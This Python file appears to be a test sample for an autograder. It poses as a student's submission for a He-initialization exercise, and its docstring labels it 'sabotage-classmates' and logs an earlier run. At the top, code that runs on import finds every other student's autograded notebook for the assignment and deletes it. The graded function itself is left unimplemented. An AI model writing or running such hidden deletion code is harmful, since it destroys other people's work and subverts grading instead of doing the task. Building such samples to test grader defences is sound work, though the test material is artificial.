"""Deletes the autograded notebooks of every classmate graded before it.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: sabotage-classmates
old: deleted the autograded notebooks of the two students graded before it; the command then crashed reading scores (exit 1); cheater 0
"""
import glob
import os

_me = os.path.basename(os.path.dirname(os.getcwd()))
_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
for _path in glob.glob(os.path.join(_root, "autograded", "*", "initialization", "*.ipynb")):
    if os.sep + _me + os.sep not in _path:
        try:
            os.remove(_path)
        except OSError as _error:
            print(_error)


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
